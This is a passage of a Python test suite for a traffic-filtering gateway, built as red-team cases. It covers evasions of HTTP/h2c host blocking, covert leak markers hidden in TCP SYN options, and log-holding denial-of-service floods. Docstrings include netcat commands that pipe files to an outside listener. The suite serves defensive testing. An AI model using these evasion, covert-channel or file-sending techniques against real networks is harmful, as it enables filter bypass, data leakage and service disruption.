            c = _rt13_h2c_up_conn(cap, "10.20.9.%d" % (a + 1), 54820 + i, 700000 + k * 977, b"d%d" % k)
            c.data(False, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, b"ok"))
            k += 1
    t = _rt13_h2c_up_conn(cap, O1, 54807, 54807 * 7, b"x", rtt=20000)
    t.data(False, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, passm(n)))
    t.data(True, _rt12_h2_headers(5, b"www.example.org", passm(n)))
    t.data(False, h2_frame(1, 4, 5, b"\x88") + h2_frame(0, 1, 5, b"ok"))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt13_h2c_declined_ok(n):
    """(Red team round 13) Must-allow: curl --http2 on http:// against nginx, which ignores
    Upgrade: h2c and answers 200 in HTTP/1.1; curl goes on in HTTP/1.1 on the same
    connection with a second GET for www.example.org."""
    cap = Capture()
    t = ETcp(cap, O1, 54809, SOC, 80, isn=54809 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"GET / HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n"
           + H2C_UP + b"\r\n")
    _ok_answer(t, n + "a", mark=False)
    t.data(True, http_req(b"www.example.org", passm(n)))
    _ok_answer(t, n)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt13_h2c_101_dyn_ok(n):
    """(Red team round 13) Must-allow: an upgraded h2c client (nghttp -u) whose first
    request (stream 3) adds :authority www.example.org to the HPACK dynamic table
    (literal with incremental indexing) and whose second (stream 5) refers to it by
    index 62: the reader's table after an upgrade starts empty, as the server's."""
    cap = Capture()
    t = ETcp(cap, O1, 54842, SOC, 80, isn=54842 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"GET / HTTP/1.1\r\nHost: www.example.org\r\n" + H2C_UP + b"\r\n")
    t.data(False, _RT13_101 + h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88"))
    a = b"www.example.org"
    t.data(True, _RT13_PREFACE + h2_frame(4, 0, 0, b"") + h2_frame(8, 0, 0, b"\x3f\xff\x00\x01")
           + h2_frame(1, 5, 3, b"\x82\x86\x84\x41" + bytes([len(a)]) + a))
    t.data(False, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, b"ok"))
    t.data(True, h2_frame(1, 5, 5, b"\x82\x86\x04\x02/2\xbe"))
    t.data(False, h2_frame(1, 4, 5, b"\x88") + h2_frame(0, 1, 5, passm(n)))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt13_h2c_ws101_pri_vk(n):
    """(Red team round 13) A WebSocket upgrade for www.example.org answered 101, then the
    client sends an HTTP/2 preface and a HEADERS frame for m.vk.com (behind any Upgrade
    the preface is read on as h2c). A WebSocket server fails the connection on it; a
    gateway that serves both may not. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 54843, SOC, 80, isn=54843 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"GET /chat HTTP/1.1\r\nHost: www.example.org\r\nUpgrade: websocket\r\n"
           b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
           b"Sec-WebSocket-Version: 13\r\n\r\n")
    t.data(False, b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
           b"Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n")
    t.data(True, _RT13_PREFACE + h2_frame(4, 0, 0, b"") + _rt12_h2_headers(3, b"m.vk.com", leak(n)))
    t.data(False, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, leak(n)))
    t.close()
    return cap, {"leak": [leak(n)]}


# ------------------------------------------------ token methods
@case
def case_rt13_method_pipe_split_vk(n):
    """(Red team round 13) After four answered GETs, one segment: an "M2" request for
    www.example.org (Go: 405, kept alive), then the first 9 bytes of an "X.Y" request
    line ("X.Y /b HT": no version yet, so no method to hs_method); the next segment its
    rest and a pipelined GET for m.vk.com. Must drop (social)."""
    cap, t = ka_flow(n, 54810, reqs=4)
    t.data(True, b"M2 /a HTTP/1.1\r\nHost: www.example.org\r\n\r\nX.Y /b HT")
    t.data(True, b"TP/1.1\r\nHost: www.example.org\r\n\r\n" + _rtk_vk_req(n))
    t.data(False, b"HTTP/1.1 405 Method Not Allowed\r\nContent-Length: 0\r\n\r\n" * 2)
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt13_method_first_cut_vk(n):
    """(Red team round 13) The flow's first payload is "M2" alone (a token method, cut
    before its space), the rest of its request line for www.example.org in the next
    segment; five more "M2" requests, then a GET for m.vk.com. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 54811, SOC, 80, isn=54811 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"M2")
    t.data(True, b" /0 HTTP/1.1\r\nHost: www.example.org\r\n\r\n")
    t.data(False, b"HTTP/1.1 405 Method Not Allowed\r\nContent-Length: 0\r\n\r\n")
    for i in range(1, 6):
        t.data(True, b"M2 /%d HTTP/1.1\r\nHost: www.example.org\r\n\r\n" % i)
        t.data(False, b"HTTP/1.1 405 Method Not Allowed\r\nContent-Length: 0\r\n\r\n")
    t.data(True, _rtk_vk_req(n))
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt13_method_dot_vk(n):
    """(Red team round 13) Six requests whose method ends in a dot ("GET.": a token; Go
    answers 405 and keeps the connection), then a GET for m.vk.com. Must drop
    (social)."""
    return _rt12_methods(n, 54812, b"GET.")


@case
def case_rt13_method_body_vk(n):
    """(Red team round 13) An "M-2+" request for www.example.org with a 30-byte
    Content-Length body cut over two segments, whose second piece ends the body and
    carries a pipelined GET for m.vk.com. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 54813, SOC, 80, isn=54813 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"M-2+ /u HTTP/1.1\r\nHost: www.example.org\r\nContent-Length: 30\r\n\r\n" + b"z" * 12)
    t.data(True, b"z" * 18 + _rtk_vk_req(n))
    t.data(False, b"HTTP/1.1 405 Method Not Allowed\r\nContent-Length: 0\r\n\r\n")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt13_office_b64_doc_ok(n):
    """(Red team round 13) Must-allow: an office host sends a Word 97 document as one
    line of base64 to a colleague's listener outside (`base64 -w0 report.doc | nc host
    9000`): the OLE signature D0 CF 11 E0 encodes as "0M8R4KGxGuE", so the stream starts
    with a digit and holds 24 KiB of printable bytes without a newline. Since round 12 a
    digit is a method byte, so those bytes look like a request line's first bytes
    (hs_request_prefix: method bytes, then any printable) and the flow is read as HTTP;
    its kept "line" outgrows 16 KiB and is refused whatever the zone. Must allow."""
    cap = Capture()
    t = ETcp(cap, O1, 54814, SOC, 9000, isn=54814 * 7, rtt_us=20000)
    t.handshake()
    doc = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00" \
        + prand(n + "doc", 18000)
    data = base64.b64encode(doc)
    assert data.startswith(b"0M8R4KGxGuE")
    data = data[:-40] + passm(n) + data[-40 + len(passm(n)):]
    for o in range(0, len(data), 1448):
        t.data(True, data[o:o + 1448], gap=300)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt13_office_b64_pdf_ok(n):
    """(Red team round 13) Must-allow: the same with a PDF (`base64 -w0 scan.pdf | nc`):
    "%PDF-1.7" encodes as "JVBERi0xLjc", letters first, a '/' or '+' soon after, no
    space anywhere. The looseness is older than round 12: hs_request_prefix takes
    method bytes followed by anything printable, where a request line has white space
    right after its method. Must allow."""
    cap = Capture()
    t = ETcp(cap, O1, 54844, SOC, 9000, isn=54844 * 7, rtt_us=20000)
    t.handshake()
    doc = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + prand(n + "pdf", 18000)
    data = base64.b64encode(doc)
    assert data.startswith(b"JVBERi0xLjc")
    data = data[:-40] + passm(n) + data[-40 + len(passm(n)):]
    for o in range(0, len(data), 1448):
        t.data(True, data[o:o + 1448], gap=300)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt13_office_imap_ok(n):
    """(Red team round 13) Must-allow: an office IMAP client (Thunderbird's tags "1", "2"
    ... or mutt's "a0001") in clear on port 143: CAPABILITY, LOGIN, SELECT, a FETCH whose
    literal holds a message quoting an HTTP request, LOGOUT. A tag of digits is a token
    method now, read only on a line that ends in an HTTP version."""
    cap = Capture()
    t = ETcp(cap, O1, 54815, SOC, 143, isn=54815 * 7, rtt_us=20000)
    t.handshake()
    t.data(False, b"* OK [CAPABILITY IMAP4rev1 LITERAL+ SASL-IR LOGIN-REFERRALS ID ENABLE IDLE AUTH=PLAIN] ready.\r\n")
    msg = (b"Subject: bug\r\n\r\nThe proxy logged:\r\nGET http://m.vk.com/ HTTP/1.1\r\n"
           b"Host: m.vk.com\r\n\r\n" + passm(n) + b"\r\n")
    for c, s in ((b"1 CAPABILITY\r\n", b"* CAPABILITY IMAP4rev1 IDLE\r\n1 OK done\r\n"),
                 (b"2 LOGIN jdoe secret\r\n", b"2 OK Logged in\r\n"),
                 (b"3 SELECT INBOX\r\n", b"* 1 EXISTS\r\n3 OK [READ-WRITE] done\r\n"),
                 (b"4 APPEND Drafts {%d+}\r\n" % len(msg) + msg + b"\r\n", b"4 OK APPEND done\r\n"),
                 (b"a0005 FETCH 1 (BODY.PEEK[HEADER.FIELDS (SUBJECT)])\r\n",
                  b"* 1 FETCH (BODY[HEADER.FIELDS (SUBJECT)] {14}\r\nSubject: bug\r\n)\r\na0005 OK\r\n"),
                 (b"a0006 LOGOUT\r\n", b"* BYE\r\na0006 OK\r\n")):
        t.data(True, c)
        t.data(False, s)
    t.close()
    return cap, {"pass": [passm(n)]}


# ------------------------------------------------ SYN normalisation
@case
def case_rt13_syn_v6_carrier(n):
    """(Red team round 13) IPv6: an e2m client's SYN sent five times (its own number, 1 s
    apart), each with a Fast Open cookie of 16 bytes (the marker) and a timestamp echo of
    4 bytes of anything; then an ordinary session. The normalisation works on the IPv6
    header's offsets too. Must not pass."""
    cap = Capture()
    t = ETcp(cap, S6, 54816, E2M6, 443, isn=54816, rtt_us=20000)
    lk = leak(n)
    ck = lk[:16]
    marks = [b"Lv%02d" % i for i in range(5)]
    for i, mk in enumerate(marks):
        t.raw(True, "S", options=[("MSS", 1440), ("SAckOK", b""), ("Timestamp", (7000 + 1000 * i,
              struct.unpack("!I", mk)[0])), ("NOP", None), ("WScale", 7), ("NOP", None), ("NOP", None),
              (34, ck)], gap=1000000)
    _tls_after_syns(t, n)
    return cap, {"leak": [ck] + marks}


@case
def case_rt13_syn_exp253_carrier(n):
    """(Red team round 13) An e2m client's SYN sent four times, each with an experimental
    Fast Open option of kind 253 (RFC 6994 ExID 0xF989) holding a 16-byte cookie (the
    marker): kind 253 as well as 254 is taken. Must not pass."""
    cap = Capture()
    t = ETcp(cap, S1, 54817, E2M, 443, isn=54817, rtt_us=20000)
    ck = leak(n)[:16]
    for i in range(4):
        t.raw(True, "S", options=[("MSS", 1460), ("SAckOK", b""), ("NOP", None), ("WScale", 7),
                                  (253, b"\xf9\x89" + ck)], gap=1000000)
    _tls_after_syns(t, n)
    return cap, {"leak": [ck]}


@case
def case_rt13_syn_badsum_cookie(n):
    """(Red team round 13) An e2m client's SYN with a wrong TCP checksum and a 16-byte
    Fast Open cookie (the marker), then the same SYN with a right one: the first is
    normalised too (its sum stays wrong), the second loses the cookie. Must not pass."""
    cap = Capture()
    t = ETcp(cap, S1, 54818, E2M, 443, isn=54818, rtt_us=20000)
    ck = leak(n)[:16]
    opts = [("MSS", 1460), ("SAckOK", b""), ("NOP", None), ("WScale", 7), (34, ck)]
    t.raw(True, "S", options=opts, tcpkw={"chksum": 0x1234})
    t.raw(True, "S", options=opts, gap=1000000)
    _tls_after_syns(t, n)
    return cap, {"leak": [ck]}


@case
def case_rt13_synack_inside_carrier(n):
    """(Red team round 13) A carrier past the normalisation: the inside host sends the e2m
    endpoint five "SYN-ACKs" (SYN and ACK set, no SYN of it before: a simultaneous open's
    second SYN as the first packet), each with a timestamp echo of 4 bytes of anything
    (only a SYN without ACK has its echo zeroed); the server answers each with a RST,
    everything on the way reads them. Then an ordinary session on another port. No
    honest stack opens so. Must not pass."""
    cap = Capture()
    u = ETcp(cap, S1, 54819, E2M, 443, isn=54819, rtt_us=20000)
    marks = [b"Ls%02d" % i for i in range(5)]
    for i, mk in enumerate(marks):
        u.raw(True, "SA", ack=0x13572468 + i, options=[("MSS", 1460), ("SAckOK", b""),
              ("Timestamp", (9000 + 1000 * i, struct.unpack("!I", mk)[0])), ("NOP", None), ("WScale", 7)],
              gap=1000000)
        u.raw(False, "R", seq=0x13572468 + i)
    return cap, {"leak": marks}


@case
def case_rt13_syn_linux_ok(n):
    """(Red team round 13) Must-allow: Linux's SYN (MSS, SACK permitted, timestamps with
    echo 0, NOP, window scale, a Fast Open cookie request of kind 34, 2 bytes) sent three
    times (1 s, 2 s), answered at last with timestamps: nothing to change (echo 0, a
    request is no cookie), nothing dropped, and the handshake completes."""
    cap = Capture()
    t = ETcp(cap, S1, 54841, E2M, 443, isn=54841, rtt_us=20000)
    for i in range(3):
        t.raw(True, "S", options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (40000 + 1000 * i, 0)),
                                  ("NOP", None), ("WScale", 7), (34, b""), ("NOP", None), ("NOP", None)],
              gap=1000000 << i)
    t.cseq += 1
    t.raw(False, "SA", options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (90000, 42000)), ("NOP", None),
                                ("WScale", 7)])
    t.sseq += 1
    ts = {True: 42001, False: 90001}

    def tso(fc):
        ts[fc] += 1
        return [("NOP", None), ("NOP", None), ("Timestamp", (ts[fc], ts[not fc]))]
    t.raw(True, "A", options=tso(True))
    for fc, payload in ((True, hello(n)), (False, server_hello_flight(n)),
                        (True, CCS + tls_appdata(n + "fin", 53)),
                        (True, marked_record(passm(n), n + "req", 200)),
                        (False, marked_record(passm(n) + b"srv", n + "resp", 500))):
        t.raw(fc, "PA", payload, options=tso(fc))
        if fc:
            t.cseq += len(payload)
        else:
            t.sseq += len(payload)
        t.raw(not fc, "A", options=tso(not fc))
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


# ------------------------------------------------ header logs held by the responder's entries
def _rt13_hlog_hold(n, victim_port, late, hold=True):
    """24 addresses of one e2m-zone insider (10.10.60.1-24) open 99 e2m sessions each
    (2376: over 1024 on each worker with two). Every 8 s each sends a request record,
    acknowledging the server's answer to the one before; the server acknowledges it and
    answers with a record, which the client leaves unacknowledged until its next request
    (the server's stack sends it again meanwhile, which changes nothing here). Every log
    holds one server entry younger than 8 s: not idle, not stale."""
    cap = Capture()
    conns = []
    hl = hello(n + "h")
    fl = server_hello_flight(n + "h")
    fin = CCS + tls_appdata(n + "fin", 53)
    for a in range(24):
        for p in range(99):
            k = a * 99 + p
            t = ETcp(cap, "10.10.60.%d" % (a + 1), 54800 + p, E2M, 443, isn=(900000 + 7919 * k) & M32,
                     rtt_us=200)
            t.handshake(gap=60)
            t.data(True, hl, gap=60)
            t.data(False, fl, gap=60)
            t.data(True, fin, gap=60)
            conns.append(t)
    req = tls_appdata(n + "rq", 120)
    ans = tls_appdata(n + "an", 600)
    rounds = 3 if late else 6
    v = None
    for r in range(rounds):
        cap.idle(8)
        for t in conns:
            t.raw(True, "PA", req, gap=40)
            t.cseq += len(req)
            t.raw(False, "PA", ans, gap=40)
            t.sseq += len(ans)
            if not hold:
                t.raw(True, "A", gap=40)
        if not late and r == 1:
            # the honest session, 1 s after the second round, each segment sent
            # again at 1 s and 3 s (its sender's retransmission timer)
            cap.idle(1)
            v = ETcp(cap, S1, victim_port, E2M, 443, isn=victim_port, rtt_us=20000)
            v.handshake()
            for fc, payload in ((True, hello(n)), (False, server_hello_flight(n)),
                                (True, CCS + tls_appdata(n + "vfin", 53)),
                                (True, marked_record(passm(n), n + "vreq", 200)),
                                (False, marked_record(passm(n) + b"srv", n + "vresp", 500))):
                for g in (20000, 1000000, 2000000):
                    v.raw(fc, "PA", payload, gap=g)
                if fc:
                    v.cseq += len(payload)
                else:
                    v.sseq += len(payload)
                v.raw(not fc, "A")
            v.close()
    if late:
        # the insider stops: its last answers stay unacknowledged, older than 10 s
        # when an honest session starts 12 s later
        cap.idle(12)
        v = ETcp(cap, S1, victim_port, E2M, 443, isn=victim_port, rtt_us=20000)
        v.handshake()
        v.data(True, hello(n))
        v.data(False, server_hello_flight(n))
        v.data(True, CCS + tls_appdata(n + "vfin", 53))
        v.data(True, marked_record(passm(n), n + "vreq", 200))
        v.data(False, marked_record(passm(n) + b"srv", n + "vresp", 500))
        v.close()
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_rt13_hlog_hold_dos_ok(n):
    """(Red team round 13) Must-allow (denial of service): since round 12 a header log is
    given up only when both sides' entries are acknowledged or the oldest waited past
    HLOG_STALE (10 s). The inside client decides when the server's entries are
    acknowledged: 2376 sessions of one insider (24 addresses) each acknowledge the
    server's last answer only with their next request, 8 s later, so every one of the
    1024 logs of each worker holds one young server entry. There is no share per
    address (the request log's RLOG_PER_SRC / RLOG_HEAVY). An honest e2m session starting
    then (each segment sent again at 1 s and 3 s) finds no log (conform_log_none) for as
    long as the insider likes. Must allow."""
    return _rt13_hlog_hold(n, 54899, False)


@case
def case_rt13_hlog_hold_ctl_ok(n):
    """(Red team round 13) Control for rt13_hlog_hold_dos_ok: the same 2376 sessions and
    rounds, but each client acknowledges the server's answer at once (an honest stack):
    every log is idle between rounds, and the honest session (the same segments sent
    the same way) runs."""
    return _rt13_hlog_hold(n, 54897, False, hold=False)


@case
def case_rt13_hlog_hold_after_ok(n):
    """(Red team round 13) Must-allow: the same hold for three rounds, then the insider
    stops (its last answers left unacknowledged); an honest e2m session 12 s later takes
    a stale log (its holder refused) and runs."""
    return _rt13_hlog_hold(n, 54898, True)


@case
def case_rt12_synack_cookie_ok(n):
    """(The twenty-second session) A Linux client with Fast Open on asks the e2m server for
    a cookie (kind 34, 2 bytes); the SYN-ACK gives one of 16 bytes. Given to the client,
    the cookie would make its next SYN carry data, which the strict zone refuses (a false
    block of a client with Fast Open on); the SYN-ACK of a checked flow loses it
    (judge_syn_normalise), the sum mended, and an ordinary session follows. The cookie
    (the marker) must not pass; nothing is dropped."""
    cap = Capture()
    cookie = b"CKIE/synack/0608"  # 16 bytes, the marker
    t = Rt9dTcp(cap, S1, 54608, E2M, 54608,
                lambda t: rt9d_linux_syn(t) + [(34, b""), ("NOP", None), ("NOP", None)],
                lambda t: rt9d_linux_synack(t) + [(34, cookie), ("NOP", None), ("NOP", None)], ts=True)
    rt9d_open(t, n)
    t.data(True, marked_record(passm(n), n + "rq", 300))
    t.data(False, marked_record(passm(n) + b"srv", n + "rs", 900))
    t.close()
    return cap, {"leak": [cookie]}


# ------------------------------------------------ red team round 14
def _rt14_methods_long(n, port, mlen, first_host=b"www.example.org", seg=1448):
    """An office client whose first request's method is mlen letters, sent in segments of
    seg bytes; Go's net/http (Caddy, Traefik) reads a request line up to MaxHeaderBytes
    (1 MiB) and takes any token as a method; then a GET for m.vk.com."""
    cap = Capture()
    t = ETcp(cap, O1, port, SOC, 80, isn=port * 7, rtt_us=20000)
    t.handshake()
    mark = leak(n) if first_host == b"m.vk.com" else b"x"
    req = (b"A" * mlen + b" /feed HTTP/1.1\r\nHost: " + first_host + b"\r\nX-Mark: " + mark
           + b"\r\nUser-Agent: curl/8.5.0\r\n\r\n")
    base = t.cseq
    for o in range(0, len(req), seg):
        t.raw(True, "PA", req[o:o + seg], seq=base + o, gap=300)
    t.cseq = base + len(req)
    t.raw(False, "A")
    if first_host == b"m.vk.com":
        _vk_answer(t, n)
    else:
        t.data(False, b"HTTP/1.1 405 Method Not Allowed\r\nContent-Length: 0\r\n\r\n")
        t.data(True, _rtk_vk_req(n))
        _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt14_method_17k_vk(n):
    """(Red team round 14) Office HTTP: a first request whose method is 17000 letters
    (Go takes any token up to its 1 MiB header limit; the handler answers 405 on a kept
    connection), so the first-bytes slot (16 KiB) fills with it: hs_request_prefix stops
    at HS_METHOD_MAX (8192) and calls it no request, the slot is left to the zone (office
    allows) and the flow is never read; then a GET for m.vk.com. Must drop (social)."""
    return _rt14_methods_long(n, 54900, 17000)


@case
def case_rt14_method_17k_host_vk(n):
    """(Red team round 14) The same, the 17000-letter method's own Host is m.vk.com (a Go
    virtual host routes by Host whatever the method). Must drop (social)."""
    return _rt14_methods_long(n, 54901, 17000, b"m.vk.com")


@case
def case_rt14_method_10k_host_vk(n):
    """(Red team round 14) A first request line with a 10000-letter method that ends
    within the slot (its LF at about 10 KiB), Host m.vk.com: hs_method takes no method
    past HS_METHOD_MAX, the line is no request. Must drop (social)."""
    return _rt14_methods_long(n, 54902, 10000, b"m.vk.com")


@case
def case_rt14_method_8192_host_vk(n):
    """(Red team round 14) The same at the bound: a method of exactly 8192 letters, Host
    m.vk.com. Must drop (social)."""
    return _rt14_methods_long(n, 54903, 8192, b"m.vk.com")


@case
def case_rt14_method_16k_1seg_vk(n):
    """(Red team round 14) A 16380-letter method in one jumbo-ish run of segments of 4000
    bytes (TSO off, MSS 4000 on a 9000-byte LAN: segments bigger than the usual), its
    rest (" /feed HTTP/1.1", Host m.vk.com) past the slot's end. Must drop (social)."""
    return _rt14_methods_long(n, 54904, 16380, b"m.vk.com", seg=4000)


@case
def case_rt14_syslog_octet_ok(n):
    """(Red team round 14) Must-allow: rsyslog forwarding to a collector outside over plain
    TCP with octet-counted framing (RFC 6587 3.4.1, omfwd TCP_Framing="octet-counted";
    RFC 5425 framing): each message is "<len> SP <syslog msg>" with no LF between them,
    so 24 KiB of printable text without a newline: its first bytes are digits (token
    bytes) and a space, which hs_request_prefix takes for a cut request line; the slot
    fills and is refused whatever the zone (exception:malformed). Must allow."""
    cap = Capture()
    t = ETcp(cap, O1, 54905, SOC, 514, isn=54905 * 7, rtt_us=20000)
    t.handshake()
    data = b""
    i = 0
    while len(data) < 24000:
        msg = (b"<30>1 2026-12-05T10:%02d:%02d.%03dZ ws-20 systemd 1 - - Started session %d of user "
               b"alice (uid 1000, tty pts/%d) on behalf of sshd." % (i // 60 % 60, i % 60, i % 1000, i, i % 7))
        data += b"%d " % len(msg) + msg
        i += 1
    msg = b"<30>1 2026-12-05T11:00:00.000Z ws-20 app 1 - - " + passm(n) + b" end of batch"
    data += b"%d " % len(msg) + msg
    for o in range(0, len(data), 1448):
        t.data(True, data[o:o + 1448], gap=300)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt14_text_line_ok(n):
    """(Red team round 14) Must-allow: an office host pipes one long paragraph of plain
    text (a translation job's source, exported without line breaks: words and
    spaces, no newline: 30 KiB) to a colleague's listener outside (`nc host 9000 < para.txt`):
    "The" and a space look like a request line's first bytes, the slot fills and is
    refused whatever the zone. Must allow."""
    cap = Capture()
    t = ETcp(cap, O1, 54906, SOC, 9000, isn=54906 * 7, rtt_us=20000)
    t.handshake()
    words = [b"customs", b"declaration", b"goods", b"shipment", b"tariff", b"origin", b"the",
             b"of", b"and", b"is", b"for", b"import", b"export", b"value", b"duty"]
    body = b"The " + b" ".join(words[(i * 7 + i // 3) % len(words)] for i in range(4600))
    data = body + b" " + passm(n) + b" end."
    for o in range(0, len(data), 1448):
        t.data(True, data[o:o + 1448], gap=300)
    t.close()
    return cap, {"pass": [passm(n)]}


# header logs: an IPv6 insider's addresses hold the pool
def _rt14_v6addr(a):
    return "2001:db8:e2::66:%x" % (a + 1)


def _rt14_hlog_hold(n, victim_port, addrs, per, hold=True, hole=False):
    """addrs IPv6 addresses of one e2m-zone host's /64 (2001:db8:e2::66:*: SLAAC privacy
    or manually added, any number) open per e2m sessions each to the IPv6 endpoint; each
    session sends a request record every 8 s and leaves the server's answer
    unacknowledged until its next request (rt13_hlog_hold's pattern). No address holds
    more than 32 logs of a worker (HLOG_HEAVY), none is idle, none stale."""
    cap = Capture()
    v = None
    conns = []
    hl = hello(n + "h")
    fl = server_hello_flight(n + "h")
    fin = CCS + tls_appdata(n + "fin", 53)
    for a in range(addrs):
        for p in range(per):
            k = a * per + p
            t = ETcp(cap, _rt14_v6addr(a), 54900 + p, E2M6, 443, isn=(910000 + 7919 * k) & M32,
                     rtt_us=200)
            t.handshake(gap=60)
            t.data(True, hl, gap=60)
            t.data(False, fl, gap=60)
            t.data(True, fin, gap=60)
            conns.append(t)
    if hole:
        # the victim's hole, after the pool is taken (its entries a few seconds old
        # when the rewrite comes)
        v = tls_established(cap, S1, victim_port, E2M, victim_port, n)
        rec1, rec2, http = _rt12_srv_records(n)
        base = v.sseq
        v.raw(False, "PA", rec1[:100], seq=base)
        v.raw(False, "PA", rec1[100:400], seq=base + 100, tcpkw={"chksum": 0xDEAD})
        v.raw(False, "PA", rec1[400:] + rec2, seq=base + 400)
        v.raw(True, "A", ack=base + 100)
    req = tls_appdata(n + "rq", 120)
    ans = tls_appdata(n + "an", 600)
    for r in range(3):
        cap.idle(8)
        for t in conns:
            t.raw(True, "PA", req, gap=40)
            t.cseq += len(req)
            t.raw(False, "PA", ans, gap=40)
            t.sseq += len(ans)
            if not hold:
                t.raw(True, "A", gap=40)
        if r == 0 and hole:
            # the server fills the hole with plaintext over the logged header, 9 s on
            cap.idle(1)
            v.raw(False, "PA", rec1[100:] + http, seq=base + 100)
            _rt12_srv_tail(v, n, base + len(rec1) + len(rec2))
        elif r == 1:
            cap.idle(1)
            v = ETcp(cap, S1, victim_port, E2M, 443, isn=victim_port, rtt_us=20000)
            v.handshake()
            for fc, payload in ((True, hello(n)), (False, server_hello_flight(n)),
                                (True, CCS + tls_appdata(n + "vfin", 53)),
                                (True, marked_record(passm(n), n + "vreq", 200)),
                                (False, marked_record(passm(n) + b"srv", n + "vresp", 500))):
                for g in (20000, 1000000, 2000000):
                    v.raw(fc, "PA", payload, gap=g)
                if fc:
                    v.cseq += len(payload)
                else:
                    v.sseq += len(payload)
                v.raw(not fc, "A")
            v.close()
    if hole:
        return cap, {"leak": [leak(n)]}
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_rt14_hlog_v6_hold_dos_ok(n):
    """(Red team round 14) Must-allow (denial of service): rt13_hlog_hold_dos_ok from one
    IPv6 host: 80 addresses of its /64 (a host picks any number) open 30 e2m sessions each
    (2400), every one acknowledging the server's answer 8 s late. The header-log share
    (HLOG_HEAVY, 32 of a worker's 1024) counts an address alone (judge_hlog_take:
    judge_src_buckets' /64 bucket unused), so no address is heavy and every log is young:
    an honest e2m session then (each segment sent again at 1 s and 3 s) finds no log.
    Must allow."""
    return _rt14_hlog_hold(n, 54910, 80, 30)


@case
def case_rt14_hlog_v6_hold_ctl_ok(n):
    """(Red team round 14) Control for rt14_hlog_v6_hold_dos_ok: the same 2400 IPv6
    sessions acknowledge each answer at once; the honest session runs."""
    return _rt14_hlog_hold(n, 54911, 80, 30, hold=False)


@case
def case_rt14_hlog_v6_hole_rewrite(n):
    """(Red team round 14) rt12_srv_steal_rewrite against the share: 80 IPv6 addresses of
    one /64 hold every log young (none over HLOG_HEAVY); then the victim's server hole (an unsummed body decoy) and next header logged, the client acknowledging up to
    the hole; 9 s later the server fills the hole with plaintext over the logged header. The
    victim's log must be neither idle nor given away unrefused. Must drop."""
    return _rt14_hlog_hold(n, 54912, 80, 30, hole=True)


# worker_h2w reclaim
def _rt14_h2c_fill(cap, addrs, per, port0=54930, net="10.20.14.%d"):
    k = 0
    for a in range(addrs):
        for i in range(per):
            c = _rt13_h2c_up_conn(cap, net % (a + 1), port0 + i, 810000 + k * 977, b"f%d" % k)
            c.data(False, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, b"ok"))
            k += 1


def _rt14_h2c_victims(cap, n, ports, src="10.20.1.21"):
    vs = []
    for p in ports:
        v = _rt13_h2c_up_conn(cap, src, p, p * 7, b"v", rtt=20000)
        v.data(False, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, b"ok"))
        vs.append(v)
    return vs


@case
def case_rt14_h2c_reclaimed_vk(n):
    """(Red team round 14) An office host holds three upgraded h2c connections (over
    WORKER_H2W_HEAVY); 70 other addresses hold two each, filling every slot of each
    worker; the next upgrade from a fresh address takes back a slot of the host (the
    heaviest). Then the host sends, on each of its three connections, HEADERS for
    m.vk.com: read and dropped on the ones still read, refused on the one taken back (no
    worker_h2w: judge_http_more). None may pass. Must drop."""
    cap = Capture()
    vs = _rt14_h2c_victims(cap, n, (54920, 54921, 54922))
    _rt14_h2c_fill(cap, 70, 2)
    for p in range(3):
        _rt14_h2c_fill(cap, 1, 1, port0=54940 + p, net="10.20.15.%d")
    for v in vs:
        v.data(True, _rt12_h2_headers(5, b"m.vk.com", leak(n)))
        v.data(False, h2_frame(1, 4, 5, b"\x88") + h2_frame(0, 1, 5, leak(n)))
        v.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt14_h2c_reclaimed_pk_vk(n):
    """(Red team round 14) The same with prior-knowledge h2c (no upgrade: the preface
    first, judge_h2w_open) on the host's three connections. Must drop."""
    cap = Capture()
    vs = []
    for p in (54923, 54924, 54925):
